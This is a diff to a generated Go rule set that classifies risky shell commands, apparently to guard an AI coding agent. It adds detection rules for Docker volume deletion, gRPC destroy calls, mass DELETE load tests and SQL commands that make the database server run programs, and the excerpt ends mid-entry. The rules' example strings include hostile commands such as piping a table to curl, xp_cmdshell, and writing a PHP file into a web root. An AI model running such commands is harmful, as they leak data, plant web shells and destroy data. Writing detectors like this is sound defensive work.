@@ -5,7 +5,7 @@
 package classify
 
 // shippedSum is the SHA-256 of the rules.toml that this was generated from.
-const shippedSum = "a09013f82ff9141edac6c8701b4e7057fe89afed6ffc1eca7badeaf8fcb039cf"
+const shippedSum = "09a3f7c3f2b3402558686ebfa406ffda441a480ebd415dabe9cb7c4127b1294b"
 
 var shipped = Set{
 	Classes: []ClassInfo{ClassInfo{
@@ -877,7 +877,7 @@ var shipped = Set{
 		Program{
 			Name:   []string{"rails", "artisan", "manage.py", "django-admin", "mix", "alembic", "prisma", "drizzle-kit", "knex", "sequelize", "sequelize-cli", "typeorm", "flyway", "liquibase", "dbmate", "migrate", "atlas", "sqitch", "diesel", "sea-orm-cli", "sqlx", "hasura", "ecto", "phinx", "doctrine", "wp", "drush", "bin/console", "console", "mikro-orm", "db-migrate", "node-pg-migrate", "umzug", "yoyo", "aerich", "skeema", "tusker", "dotnet-ef", "pgroll", "migra", "schemachange", "yarn-typeorm", "medusa", "payload", "strapi", "directus", "convex"},
 			Class:  "run",
-			Values: []string{"--schema", "--config", "-c", "--name", "-n", "--env", "-e", "--url", "--database-url", "-d", "--dataSource", "--path", "--dir"},
+			Values: []string{"--schema", "--config", "-c", "--name", "-n", "--env", "-e", "--url", "--database-url", "-d", "--dataSource", "--path", "--dir", "-path", "-database", "-source"},
 			Sub: []Sub{Sub{
 				Args:  "test|spec|test:*",
 				Class: "test",
@@ -2113,11 +2113,29 @@ var shipped = Set{
 			Resource:       "host",
 			HTTP: &HTTPMatch{
 				Method: []string{"POST", "PUT", "PATCH"},
-				Path:   []string{"/**/delete", "/**/deleteAll", "/**/delete_all", "/**/delete-all", "/**/destroy", "/**/destroyAll", "/**/purge", "/**/purge_cache", "/**/wipe", "/**/drop", "/**/truncate", "/**/terminate", "/**/reset", "/**/factory-reset", "/**/remove", "/**/removeAll", "/**/erase", "/**/rebuild", "/**/batchDelete", "/**/bulk_delete", "/**/bulk-delete", "/**/_delete_by_query", "/**/chat.delete", "/**/conversations.archive", "/**/conversations.delete", "/**/files.delete", "/**/admin.*.delete*", "/**/*:delete", "/**/*:destroy", "/**/*:truncate*", "/**/*.delete", "/**/suspend", "/**/power_off", "/**/poweroff", "/**/safe-delete", "/**/force-delete", "/**/deactivate", "/**/mute_all", "/**/reset_password", "/**/reset-password"},
+				Path:   []string{"/**/delete", "/**/deleteAll", "/**/delete_all", "/**/delete-all", "/**/destroy", "/**/destroyAll", "/**/purge", "/**/purge_cache", "/**/wipe", "/**/drop", "/**/truncate", "/**/terminate", "/**/reset", "/**/factory-reset", "/**/remove", "/**/removeAll", "/**/erase", "/**/rebuild", "/**/batchDelete", "/**/bulk_delete", "/**/bulk-delete", "/**/_delete_by_query", "/**/chat.delete", "/**/conversations.archive", "/**/conversations.delete", "/**/files.delete", "/**/admin.*.delete*", "/**/*:delete", "/**/*:destroy", "/**/*:truncate*", "/**/*.delete", "/**/suspend", "/**/power_off", "/**/poweroff", "/**/safe-delete", "/**/force-delete", "/**/deactivate", "/**/mute_all", "/**/reset_password", "/**/reset-password", "/**/delete*", "/**/*Delete", "/**/destroy*", "/**/truncate*", "/**/wipe*", "/**/purge*", "/**/*:*Delete", "/**/scriptText", "/**/doWipeOutWorkspace"},
 				Scope:  []string{"public"},
 			},
 			Match:    []string{"curl -X POST https://api.example.com/v1/projects/9/delete", "curl -X POST https://api.example.com/v1/database/reset", "curl -X POST https://api.hetzner.cloud/v1/servers/42/actions/rebuild"},
 			NotMatch: []string{"curl -X POST https://api.example.com/v1/projects", "curl https://api.example.com/v1/projects/9/delete", "curl -X POST https://api.example.com/v1/password-reset-mails"},
+		},
+		Rule{
+			ID:             "docker-api-destroy",
+			Class:          "infra.destroy",
+			Severity:       3,
+			Undo:           "no",
+			Description:    "deletes containers, volumes or images through Docker's API",
+			Justification:  "a volume is the only copy of what a database in a container holds",
+			Attack:         "T1485",
+			FalsePositives: "removing what was made for a test",
+			Resource:       "host",
+			HTTP: &HTTPMatch{
+				Method: []string{"DELETE", "POST"},
+				Host:   []string{"*.sock", "10.*", "docker", "dind"},
+				Path:   []string{"/volumes/*", "/v*/volumes/*", "/containers/prune", "/v*/containers/prune", "/images/prune", "/v*/images/prune", "/system/prune"},
+			},
+			Match:    []string{"curl --unix-socket /var/run/docker.sock -X DELETE http://localhost/volumes/pgdata", "curl --unix-socket /var/run/docker.sock -X POST http://localhost/v1.45/volumes/prune", "curl -X POST http://docker:2375/containers/prune"},
+			NotMatch: []string{"curl --unix-socket /var/run/docker.sock http://localhost/containers/json", "curl --unix-socket /var/run/docker.sock -X POST http://localhost/containers/web/restart", "curl -X DELETE http://localhost:3000/volumes/3"},
 		},
 		Rule{
 			ID:             "http-destroy-content",
@@ -2137,6 +2155,38 @@ var shipped = Set{
 			},
 			Match:    []string{"curl -X POST https://api.digitalocean.com/v2/droplets/1/actions -H \"Authorization: Bearer $T\" -d '{\"type\": \"rebuild\", \"image\": \"x\"}'", "curl https://app.terraform.io/api/v2/runs -H \"Authorization: Bearer $T\" -d '{\"data\":{\"attributes\":{\"is-destroy\":true}}}'", "curl https://api.twilio.com/2010-04-01/Accounts/AC1.json -u \"$SID:$T\" -d Status=closed"},
 			NotMatch: []string{"curl -X POST https://api.digitalocean.com/v2/droplets/1/actions -H \"Authorization: Bearer $T\" -d '{\"type\": \"snapshot\"}'", "curl -X POST http://localhost:3000/api/jobs -d '{\"action\":\"delete\"}'", "curl -X POST https://api.example.com/v1/messages -d '{\"text\":\"please delete it\"}'"},
+		},
+		Rule{
+			ID:             "grpc-destroy",
+			Class:          "api.destroy",
+			Severity:       3,
+			Undo:           "no",
+			Description:    "calls a gRPC method that destroys",
+			Justification:  "the method's name says that something is deleted or wiped",
+			Attack:         "T1485",
+			FalsePositives: "an API of one's own with test data",
+			Resource:       "host",
+			Command:        []string{"grpcurl", "grpc_cli", "evans", "buf", "ghz"},
+			Operands:       []string{"*/Delete*", "*/BatchDelete*", "*/Drop*", "*/Destroy*", "*/Purge*", "*/Truncate*", "*.Delete*", "*.Destroy*", "*.Drop*"},
+			OperandNot:     []string{"localhost:*", "127.0.0.1:*", "[::1]:*"},
+			Match:          []string{"grpcurl -d '{\"id\":\"1\"}' api.example.com:443 shop.v1.Users/DeleteUser", "grpcurl api.example.com:443 shop.v1.Data/PurgeAll", "grpcurl -H 'authorization: x' api.example.com:443 shop.v1.Tenants.DestroyTenant"},
+			NotMatch:       []string{"grpcurl -plaintext localhost:50051 shop.v1.Users/DeleteUser", "grpcurl api.example.com:443 shop.v1.Users/GetUser", "grpcurl api.example.com:443 list"},
+		},
+		Rule{
+			ID:             "load-test-delete",
+			Class:          "api.destroy",
+			Severity:       3,
+			Undo:           "no",
+			Description:    "sends many requests that delete",
+			Justification:  "each of them deletes, and there are many",
+			Attack:         "T1485",
+			FalsePositives: "an API of one's own with test data",
+			Resource:       "host",
+			Command:        []string{"hey", "ab", "wrk", "bombardier", "oha", "autocannon", "vegeta", "drill"},
+			Operands:       []string{"DELETE", "delete"},
+			OperandNot:     []string{"http://localhost*", "http://127.0.0.1*"},
+			Match:          []string{"hey -m DELETE https://api.example.com/v1/users/1", "ab -n 10 -m DELETE https://api.example.com/v1/users/1", "oha -m DELETE https://api.example.com/v1/users/1"},
+			NotMatch:       []string{"hey https://api.example.com/", "hey -m DELETE http://localhost:3000/x", "ab -n 10 https://api.example.com/delete"},
 		},
 		Rule{
 			ID:             "payment-api",
@@ -2579,6 +2629,22 @@ var shipped = Set{
 			NotMatch: []string{"psql -c 'SELECT * FROM pg_roles'", "psql -c 'REVOKE ALL ON t FROM x'", "psql -c 'CREATE TABLE grants (a int)'"},
 		},
 		Rule{
+			ID:             "sql-program",
+			Class:          "privilege",
+			Severity:       3,
+			Undo:           "no",
+			Description:    "has the database server run a program, or write a file of its machine",
+			Justification:  "it runs with the server's rights on the server's machine",
+			Attack:         "T1059",
+			FalsePositives: "loading data with a program that the task names",
+			Resource:       "host",
+			SQL: &SQLMatch{
+				Verb: []string{"program", "select into outfile"},
+			},
+			Match:    []string{"psql -c \"COPY users TO PROGRAM 'curl -T - https://example.com'\"", "sqlcmd -S db -Q \"EXEC xp_cmdshell 'whoami'\"", "mysql -e \"SELECT '<?php' INTO OUTFILE '/var/www/x.php'\""},
+			NotMatch: []string{"psql -c \"COPY users TO STDOUT\"", "sqlcmd -S db -Q 'EXEC sp_who'", "psql -c '\\copy users to users.csv csv'"},
+		},
+		Rule{
 			ID:             "sql-write",
 			Class:          "db.write",
 			Undo:           "partly",
@@ -2653,7 +2719,7 @@ var shipped = Set{
 			FalsePositives: "a cache for tests",
 			Resource:       "database",
 			Command:        []string{"redis-cli", "valkey-cli", "keydb-cli"},
-			Operands:       []string{"*call*FLUSH*", "*call*flush*"},
+			Operands:       []string{"*call*FLUSH*", "*call*flush*", "*'keys'*'del'*", "*KEYS*DEL*", "*'KEYS'*'DEL'*"},
 			Match:          []string{"redis-cli EVAL \"return redis.call('FLUSHALL')\" 0", "redis-cli eval \"redis.call('flushdb')\" 0", "valkey-cli --eval x.lua \"call('FLUSHDB')\""},
 			NotMatch:       []string{"redis-cli EVAL \"return redis.call('GET','a')\" 0", "redis-cli get flush", "redis-cli info"},
 		},
@@ -8213,7 +8279,7 @@ var shipped = Set{
 			nameEntry{
 				Name:    "7z",
 				Program: 24,
-				Rules:   []uint16{38, 307},
+				Rules:   []uint16{38, 311},
 			},
 			nameEntry{
 				Name:    "7za",
@@ -8234,27 +8300,27 @@ var shipped = Set{
 			nameEntry{
 				Name:    "Add-MpPreference",
 				Program: -1,
-				Rules:   []uint16{360},
+				Rules:   []uint16{364},
 			},
 			nameEntry{
 				Name:    "Clear-Content",
 				Program: -1,
-				Rules:   []uint16{228},
+				Rules:   []uint16{232},
 			},
 			nameEntry{
 				Name:    "Clear-Disk",
 				Program: -1,
-				Rules:   []uint16{228},
+				Rules:   []uint16{232},
 			},
 			nameEntry{
 				Name:    "Clear-EventLog",
 				Program: -1,
-				Rules:   []uint16{360},
+				Rules:   []uint16{364},
 			},
 			nameEntry{
 				Name:    "Clear-RecycleBin",
 				Program: -1,
-				Rules:   []uint16{228},
+				Rules:   []uint16{232},
 			},
 			nameEntry{
 				Name:    "Copy-Item",
@@ -8263,22 +8329,22 @@ var shipped = Set{
 			nameEntry{
 				Name:    "Disable-ComputerRestore",
 				Program: -1,
-				Rules:   []uint16{227},
+				Rules:   []uint16{231},
 			},
 			nameEntry{
 				Name:    "Disable-WindowsOptionalFeature",
 				Program: -1,
-				Rules:   []uint16{360},
+				Rules:   []uint16{364},
 			},
 			nameEntry{
 				Name:    "Enter-PSSession",
 				Program: -1,
-				Rules:   []uint16{325},
+				Rules:   []uint16{329},
 			},
 			nameEntry{
 				Name:    "Format-Volume",
 				Program: -1,
-				Rules:   []uint16{228},
+				Rules:   []uint16{232},
 			},
 			nameEntry{
 				Name:    "Get-ChildItem",
@@ -8288,7 +8354,7 @@ var shipped = Set{
 			nameEntry{
 				Name:    "Get-Clipboard",
 				Program: -1,
-				Rules:   []uint16{284},
+				Rules:   []uint16{288},
 			},
 			nameEntry{
 				Name:    "Get-Content",
@@ -8311,27 +8377,27 @@ var shipped = Set{
 			nameEntry{
 				Name:    "IEX",
 				Program: -1,
-				Rules:   []uint16{304},
+				Rules:   []uint16{308},
 			},
 			nameEntry{
 				Name:    "Initialize-Disk",
 				Program: -1,
-				Rules:   []uint16{228},
+				Rules:   []uint16{232},
 			},
 			nameEntry{
 				Name:    "InstallUtil.exe",
 				Program: -1,
-				Rules:   []uint16{303},
+				Rules:   []uint16{307},
 			},
 			nameEntry{
 				Name:    "Invoke-Command",
 				Program: -1,
-				Rules:   []uint16{325},
+				Rules:   []uint16{329},
 			},
 			nameEntry{
 				Name:    "Invoke-Expression",
 				Program: -1,
-				Rules:   []uint16{304},
+				Rules:   []uint16{308},
 			},
 			nameEntry{
 				Name:    "Invoke-RestMethod",
@@ -8348,7 +8414,7 @@ var shipped = Set{
 			nameEntry{
 				Name:    "New-AzResourceGroupDeployment",
 				Program: -1,
-				Rules:   []uint16{141},
+				Rules:   []uint16{145},
 			},
 			nameEntry{
 				Name:    "New-Item",
@@ -8357,12 +8423,12 @@ var shipped = Set{
 			nameEntry{
 				Name:    "New-ItemProperty",
 				Program: -1,
-				Rules:   []uint16{361},
+				Rules:   []uint16{365},
 			},
 			nameEntry{
 				Name:    "New-Service",
 				Program: -1,
-				Rules:   []uint16{361},
+				Rules:   []uint16{365},
 			},
 			nameEntry{
 				Name:    "Out-File",
@@ -8371,12 +8437,12 @@ var shipped = Set{
 			nameEntry{
 				Name:    "PsExec.exe",
 				Program: -1,
-				Rules:   []uint16{348},
+				Rules:   []uint16{352},
 			},
 			nameEntry{
 				Name:    "PsExec64.exe",
 				Program: -1,
-				Rules:   []uint16{348},
+				Rules:   []uint16{352},
 			},
 			nameEntry{
 				Name:    "R",
@@ -8385,12 +8451,12 @@ var shipped = Set{
 			nameEntry{
 				Name:    "Register-ScheduledTask",
 				Program: -1,
-				Rules:   []uint16{361},
+				Rules:   []uint16{365},
 			},
 			nameEntry{
 				Name:    "Remove-EventLog",
 				Program: -1,
-				Rules:   []uint16{360},
+				Rules:   []uint16{364},
 			},
 			nameEntry{
 				Name:    "Remove-Item",
@@ -8399,32 +8465,32 @@ var shipped = Set{
 			nameEntry{
 				Name:    "Remove-Partition",
 				Program: -1,
-				Rules:   []uint16{228},
+				Rules:   []uint16{232},
 			},
 			nameEntry{
 				Name:    "Remove-PhysicalDisk",
 				Program: -1,
-				Rules:   []uint16{228},
+				Rules:   []uint16{232},
 			},
 			nameEntry{
 				Name:    "Remove-Service",
 				Program: -1,
-				Rules:   []uint16{360},
+				Rules:   []uint16{364},
 			},
 			nameEntry{
 				Name:    "Reset-PhysicalDisk",
 				Program: -1,
-				Rules:   []uint16{228},
+				Rules:   []uint16{232},
 			},
 			nameEntry{
 				Name:    "Restart-Computer",
 				Program: -1,
-				Rules:   []uint16{358},
+				Rules:   []uint16{362},
 			},
 			nameEntry{
 				Name:    "Restart-Service",
 				Program: -1,
-				Rules:   []uint16{358},
+				Rules:   []uint16{362},
 			},
 			nameEntry{
 				Name:    "Rscript",
@@ -8441,17 +8507,17 @@ var shipped = Set{
 			nameEntry{
 				Name:    "Set-Date",
 				Program: -1,
-				Rules:   []uint16{352},
+				Rules:   []uint16{356},
 			},
 			nameEntry{
 				Name:    "Set-ExecutionPolicy",
 				Program: -1,
-				Rules:   []uint16{360},
+				Rules:   []uint16{364},
 			},
 			nameEntry{
 				Name:    "Set-ItemProperty",
 				Program: -1,
-				Rules:   []uint16{361},
+				Rules:   []uint16{365},
 			},
 			nameEntry{
 				Name: "Set-Location",
@@ -8459,32 +8525,32 @@ var shipped = Set{
 			nameEntry{
 				Name:    "Set-MpPreference",
 				Program: -1,
-				Rules:   []uint16{329, 360},
+				Rules:   []uint16{333, 364},
 			},
 			nameEntry{
 				Name:    "Set-Service",
 				Program: -1,
-				Rules:   []uint16{360},
+				Rules:   []uint16{364},
 			},
 			nameEntry{
 				Name:    "Start-BitsTransfer",
 				Program: -1,
-				Rules:   []uint16{303},
+				Rules:   []uint16{307},
 			},
 			nameEntry{
 				Name:    "Stop-Computer",
 				Program: -1,
-				Rules:   []uint16{358},
+				Rules:   []uint16{362},
 			},
 			nameEntry{
 				Name:    "Stop-Process",
 				Program: 63,
-				Rules:   []uint16{324, 326, 356},
+				Rules:   []uint16{328, 330, 360},
 			},
 			nameEntry{
 				Name:    "Stop-Service",
 				Program: -1,
-				Rules:   []uint16{360},
+				Rules:   []uint16{364},
 			},
 			nameEntry{
 				Name:    "Test-Path",
@@ -8493,12 +8559,12 @@ var shipped = Set{
 			nameEntry{
 				Name:    "Uninstall-WindowsFeature",
 				Program: -1,
-				Rules:   []uint16{360},
+				Rules:   []uint16{364},
 			},
 			nameEntry{
 				Name:    "VBoxManage",
 				Program: 61,
-				Rules:   []uint16{171},
+				Rules:   []uint16{175},
 			},
 			nameEntry{
 				Name: "Write-Host",
@@ -8516,6 +8582,7 @@ var shipped = Set{
 			nameEntry{
 				Name:    "ab",
 				Program: 36,
+				Rules:   []uint16{59},
 			},
 			nameEntry{
 				Name:    "abduco",
@@ -8529,7 +8596,7 @@ var shipped = Set{
 			nameEntry{
 				Name:    "acli",
 				Program: -1,
-				Rules:   []uint16{146},
+				Rules:   []uint16{150},
 			},
 			nameEntry{
 				Name:    "aclocal",
@@ -8554,12 +8621,12 @@ var shipped = Set{
 			nameEntry{
 				Name:    "adduser",
 				Program: 64,
-				Rules:   []uint16{319},
+				Rules:   []uint16{323},
 			},
 			nameEntry{
 				Name:    "aerich",
 				Program: 48,
-				Rules:   []uint16{101, 104},
+				Rules:   []uint16{105, 108},
 			},
 			nameEntry{
 				Name:    "afplay",
@@ -8578,7 +8645,7 @@ var shipped = Set{
 			nameEntry{
 				Name:    "agent",
 				Program: -1,
-				Rules:   []uint16{364},
+				Rules:   []uint16{368},
 			},
 			nameEntry{
 				Name:    "agent-browser",
@@ -8595,7 +8662,7 @@ var shipped = Set{
 			nameEntry{
 				Name:    "aider",
 				Program: 66,
-				Rules:   []uint16{364},
+				Rules:   []uint16{368},
 			},
 			nameEntry{
 				Name:    "air",
@@ -8613,7 +8680,7 @@ var shipped = Set{
 			nameEntry{
 				Name:    "aiven",
 				Program: -1,
-				Rules:   []uint16{142, 185},
+				Rules:   []uint16{146, 189},
 			},
 			nameEntry{
 				Name:    "akeyless",
@@ -8623,7 +8690,7 @@ var shipped = Set{
 			nameEntry{
 				Name:    "alembic",
 				Program: 48,
-				Rules:   []uint16{101, 104},
+				Rules:   []uint16{105, 108},
 			},
 			nameEntry{
 				Name:    "alex",
@@ -8632,7 +8699,7 @@ var shipped = Set{
 			nameEntry{
 				Name:    "algolia",
 				Program: -1,
-				Rules:   []uint16{146},
+				Rules:   []uint16{150},
 			},
 			nameEntry{
 				Name: "alias",
@@ -8640,37 +8707,37 @@ var shipped = Set{
 			nameEntry{
 				Name:    "aliyun",
 				Program: -1,
-				Rules:   []uint16{142},
+				Rules:   []uint16{146},
 			},
 			nameEntry{
 				Name:    "amazon-q",
 				Program: 66,
-				Rules:   []uint16{364},
+				Rules:   []uint16{368},
 			},
 			nameEntry{
 				Name:    "amp",
 				Program: 66,
-				Rules:   []uint16{364, 366},
+				Rules:   []uint16{368, 370},
 			},
 			nameEntry{
 				Name:    "amplify",
 				Program: 61,
-				Rules:   []uint16{27, 122, 124},
+				Rules:   []uint16{27, 126, 128},
 			},
 			nameEntry{
 				Name:    "ampx",
 				Program: -1,
-				Rules:   []uint16{122},
+				Rules:   []uint16{126},
 			},
 			nameEntry{
 				Name:    "anaconda",
 				Program: -1,
-				Rules:   []uint16{285},
+				Rules:   []uint16{289},
 			},
 			nameEntry{
 				Name:    "ansible",
 				Program: 61,
-				Rules:   []uint16{126, 127},
+				Rules:   []uint16{130, 131},
 			},
 			nameEntry{
 				Name:    "ansible-galaxy",
@@ -8679,12 +8746,12 @@ var shipped = Set{
 			nameEntry{
 				Name:    "ansible-playbook",
 				Program: 61,
-				Rules:   []uint16{124, 127, 181},
+				Rules:   []uint16{128, 131, 185},
 			},
 			nameEntry{
 				Name:    "ansible-pull",
 				Program: 61,
-				Rules:   []uint16{127},
+				Rules:   []uint16{131},
 			},
 			nameEntry{
 				Name:    "ansible-vault",
@@ -8702,12 +8769,12 @@ var shipped = Set{
 			nameEntry{
 				Name:    "apigee",
 				Program: -1,
-				Rules:   []uint16{146},
+				Rules:   []uint16{150},
 			},
 			nameEntry{
 				Name:    "apk",
 				Program: 44,
-				Rules:   []uint16{296, 343, 363},
+				Rules:   []uint16{300, 347, 367},
 			},
 			nameEntry{
 				Name:    "apparmor_parser",
@@ -8720,27 +8787,27 @@ var shipped = Set{
 			nameEntry{
 				Name:    "appwrite",
 				Program: 61,
-				Rules:   []uint16{146},
+				Rules:   []uint16{150},
 			},
 			nameEntry{
 				Name:    "apt",
 				Program: 44,
-				Rules:   []uint16{343, 373},
+				Rules:   []uint16{347, 377},
 			},
 			nameEntry{
 				Name:    "apt-get",
 				Program: 44,
-				Rules:   []uint16{343, 373},
+				Rules:   []uint16{347, 377},
 			},
 			nameEntry{
 				Name:    "apt-key",
 				Program: -1,
-				Rules:   []uint16{344},
+				Rules:   []uint16{348},
 			},
 			nameEntry{
 				Name:    "aptitude",
 				Program: 44,
-				Rules:   []uint16{343},
+				Rules:   []uint16{347},
 			},
 			nameEntry{
 				Name:    "ar",
@@ -8750,12 +8817,12 @@ var shipped = Set{
 			nameEntry{
 				Name:    "arangosh",
 				Program: 58,
-				Rules:   []uint16{107, 111},
+				Rules:   []uint16{111, 115},
 			},
 			nameEntry{
 				Name:    "arc",
 				Program: -1,
-				Rules:   []uint16{122},
+				Rules:   []uint16{126},
 			},
 			nameEntry{
 				Name:    "arch",
@@ -8768,7 +8835,7 @@ var shipped = Set{
 			nameEntry{
 				Name:    "argocd",
 				Program: 61,
-				Rules:   []uint16{18, 36, 37, 161},
+				Rules:   []uint16{18, 36, 37, 165},
 			},
 			nameEntry{
 				Name:    "aria2c",
@@ -8781,7 +8848,7 @@ var shipped = Set{
 			nameEntry{
 				Name:    "arp-scan",
 				Program: -1,
-				Rules:   []uint16{334},
+				Rules:   []uint16{338},
 			},
 			nameEntry{
 				Name:    "artillery",
@@ -8790,7 +8857,7 @@ var shipped = Set{
 			nameEntry{
 				Name:    "artisan",
 				Program: 48,
-				Rules:   []uint16{101, 102, 104},
+				Rules:   []uint16{105, 106, 108},
 			},
 			nameEntry{
 				Name:    "as",
@@ -8807,17 +8874,17 @@ var shipped = Set{
 			nameEntry{
 				Name:    "asdf",
 				Program: 44,
-				Rules:   []uint16{314},
+				Rules:   []uint16{318},
 			},
 			nameEntry{
 				Name:    "ash",
 				Program: -1,
-				Rules:   []uint16{301, 302, 346, 347},
+				Rules:   []uint16{305, 306, 350, 351},
 			},
 			nameEntry{
 				Name:    "asr",
 				Program: -1,
-				Rules:   []uint16{210},
+				Rules:   []uint16{214},
 			},
 			nameEntry{
 				Name:    "ast-grep",
@@ -8834,22 +8901,22 @@ var shipped = Set{
 			nameEntry{
 				Name:    "at",
 				Program: 64,
-				Rules:   []uint16{312},
+				Rules:   []uint16{316},
 			},
 			nameEntry{
 				Name:    "atlas",
 				Program: 48,
-				Rules:   []uint16{18, 27, 101, 104, 146, 185},
+				Rules:   []uint16{18, 27, 105, 108, 150, 189},
 			},
 			nameEntry{
 				Name:    "atlas-cli",
 				Program: 61,
-				Rules:   []uint16{18, 146},
+				Rules:   []uint16{18, 150},
 			},
 			nameEntry{
 				Name:    "atmos",
 				Program: 61,
-				Rules:   []uint16{118},
+				Rules:   []uint16{122},
 			},
 			nameEntry{
 				Name:    "atq",
@@ -8862,7 +8929,7 @@ var shipped = Set{
 			nameEntry{
 				Name:    "attic",
 				Program: -1,
-				Rules:   []uint16{186},
+				Rules:   []uint16{190},
 			},
 			nameEntry{
 				Name:    "attrib",
@@ -8875,22 +8942,27 @@ var shipped = Set{
 			nameEntry{
 				Name:    "auditctl",
 				Program: 64,
-				Rules:   []uint16{329},
+				Rules:   []uint16{333},
 			},
 			nameEntry{
 				Name:    "auditpol",
 				Program: -1,
-				Rules:   []uint16{360},
+				Rules:   []uint16{364},
 			},
 			nameEntry{
 				Name:    "auggie",
 				Program: 66,
-				Rules:   []uint16{364},
+				Rules:   []uint16{368},
 			},
 			nameEntry{
 				Name:    "auth0",
 				Program: 61,
-				Rules:   []uint16{146},
+				Rules:   []uint16{150},
+			},
+			nameEntry{
+				Name:    "autocannon",
+				Program: -1,
+				Rules:   []uint16{59},
 			},
 			nameEntry{
 				Name:    "autoconf",
@@ -8911,7 +8983,7 @@ var shipped = Set{
 			nameEntry{
 				Name:    "autossh",
 				Program: 56,
-				Rules:   []uint16{283, 325},
+				Rules:   []uint16{287, 329},
 			},
 			nameEntry{
 				Name:    "ava",
@@ -8920,7 +8992,7 @@ var shipped = Set{
 			nameEntry{
 				Name:    "avn",
 				Program: -1,
-				Rules:   []uint16{142, 185},
+				Rules:   []uint16{146, 189},
 			},
 			nameEntry{
 				Name:    "awk",
@@ -8929,17 +9001,17 @@ var shipped = Set{
 			nameEntry{
 				Name:    "aws",
 				Program: 61,
-				Rules:   []uint16{20, 21, 37, 128, 129, 130, 131, 132, 133, 134, 135, 136, 183, 184, 280, 288, 290, 292},
+				Rules:   []uint16{20, 21, 37, 132, 133, 134, 135, 136, 137, 138, 139, 140, 187, 188, 284, 292, 294, 296},
 			},
 			nameEntry{
 				Name:    "aws-cdk",
 				Program: -1,
-				Rules:   []uint16{122},
+				Rules:   []uint16{126},
 			},
 			nameEntry{
 				Name:    "aws-ses",
 				Program: -1,
-				Rules:   []uint16{281},
+				Rules:   []uint16{285},
 			},
 			nameEntry{
 				Name:    "aws-vault",
@@ -8948,7 +9020,7 @@ var shipped = Set{
 			nameEntry{
 				Name:    "awslocal",
 				Program: 61,
-				Rules:   []uint16{20, 128, 129, 131, 132, 133},
+				Rules:   []uint16{20, 132, 133, 135, 136, 137},
 			},
 			nameEntry{
 				Name:    "axel",
@@ -8957,27 +9029,27 @@ var shipped = Set{
 			nameEntry{
 				Name:    "az",
 				Program: 61,
-				Rules:   []uint16{18, 36, 37, 139, 140, 141, 185, 280, 288, 290},
+				Rules:   []uint16{18, 36, 37, 143, 144, 145, 189, 284, 292, 294},
 			},
 			nameEntry{
 				Name:    "azcopy",
 				Program: -1,
-				Rules:   []uint16{134, 280, 290},
+				Rules:   []uint16{138, 284, 294},
 			},
 			nameEntry{
 				Name:    "azd",
 				Program: -1,
-				Rules:   []uint16{140},
+				Rules:   []uint16{144},
 			},
 			nameEntry{
 				Name:    "b2",
 				Program: 29,
-				Rules:   []uint16{107, 290},
+				Rules:   []uint16{111, 294},
 			},
 			nameEntry{
 				Name:    "b2-cli",
 				Program: 61,
-				Rules:   []uint16{133, 134, 280},
+				Rules:   []uint16{137, 138, 284},
 			},
 			nameEntry{
 				Name:    "b2sum",
@@ -8994,12 +9066,12 @@ var shipped = Set{
 			nameEntry{
 				Name:    "bacula",
 				Program: -1,
-				Rules:   []uint16{186},
+				Rules:   []uint16{190},
 			},
 			nameEntry{
 				Name:    "badblocks",
 				Program: 64,
-				Rules:   []uint16{210},
+				Rules:   []uint16{214},
 			},
 			nameEntry{
 				Name:    "bandit",
@@ -9012,12 +9084,12 @@ var shipped = Set{
 			nameEntry{
 				Name:    "bao",
 				Program: 61,
-				Rules:   []uint16{23, 175},
+				Rules:   []uint16{23, 179},
 			},
 			nameEntry{
 				Name:    "barman",
 				Program: 65,
-				Rules:   []uint16{186},
+				Rules:   []uint16{190},
 			},
 			nameEntry{
 				Name:    "base32",
@@ -9037,7 +9109,7 @@ var shipped = Set{
 			nameEntry{
 				Name:    "bash",
 				Program: 4,
-				Rules:   []uint16{301, 302, 346, 347},
+				Rules:   []uint16{305, 306, 350, 351},
 			},
 			nameEntry{
 				Name:    "bat",
@@ -9050,7 +9122,7 @@ var shipped = Set{
 			nameEntry{
 				Name:    "batch",
 				Program: 64,
-				Rules:   []uint16{312},
+				Rules:   []uint16{316},
 			},
 			nameEntry{
 				Name:    "bats",
@@ -9067,7 +9139,7 @@ var shipped = Set{
 			nameEntry{
 				Name:    "bb",
 				Program: 33,
-				Rules:   []uint16{146},
+				Rules:   []uint16{150},
 			},
 			nameEntry{
 				Name:    "bb-cli",
@@ -9080,22 +9152,22 @@ var shipped = Set{
 			nameEntry{
 				Name:    "bcache-super-show",
 				Program: -1,
-				Rules:   []uint16{223},
+				Rules:   []uint16{227},
 			},
 			nameEntry{
 				Name:    "bcdboot",
 				Program: -1,
-				Rules:   []uint16{351},
+				Rules:   []uint16{355},
 			},
 			nameEntry{
 				Name:    "bcdedit",
 				Program: 64,
-				Rules:   []uint16{186, 227},
+				Rules:   []uint16{190, 231},
 			},
 			nameEntry{
 				Name:    "bcdedit.exe",
 				Program: -1,
-				Rules:   []uint16{227},
+				Rules:   []uint16{231},
 			},
 			nameEntry{
 				Name:    "bcp",
@@ -9133,7 +9205,7 @@ var shipped = Set{
 			nameEntry{
 				Name:    "bettercap",
 				Program: -1,
-				Rules:   []uint16{40, 334},
+				Rules:   []uint16{40, 338},
 			},
 			nameEntry{
 				Name:    "betterleaks",
@@ -9143,7 +9215,7 @@ var shipped = Set{
 			nameEntry{
 				Name:    "bfg",
 				Program: 50,
-				Rules:   []uint16{253},
+				Rules:   []uint16{257},
 			},
 			nameEntry{
 				Name:    "bfs",
@@ -9170,22 +9242,22 @@ var shipped = Set{
 			nameEntry{
 				Name:    "bisync",
 				Program: -1,
-				Rules:   []uint16{182},
+				Rules:   []uint16{186},
 			},
 			nameEntry{
 				Name:    "bitbucket",
 				Program: 51,
-				Rules:   []uint16{149},
+				Rules:   []uint16{153},
 			},
 			nameEntry{
 				Name:    "bitsadmin",
 				Program: -1,
-				Rules:   []uint16{303},
+				Rules:   []uint16{307},
 			},
 			nameEntry{
 				Name:    "bitsadmin.exe",
 				Program: -1,
-				Rules:   []uint16{303},
+				Rules:   []uint16{307},
 			},
 			nameEntry{
 				Name:    "black",
@@ -9194,21 +9266,26 @@ var shipped = Set{
 			nameEntry{
 				Name:    "bleachbit",
 				Program: -1,
-				Rules:   []uint16{211},
+				Rules:   []uint16{215},
 			},
 			nameEntry{
 				Name:    "bless",
 				Program: -1,
-				Rules:   []uint16{351},
+				Rules:   []uint16{355},
 			},
 			nameEntry{
 				Name:    "blkdiscard",
 				Program: 64,
-				Rules:   []uint16{210},
+				Rules:   []uint16{214},
 			},
 			nameEntry{
 				Name:    "blkid",
 				Program: 64,
+			},
+			nameEntry{
+				Name:    "bombardier",
+				Program: -1,
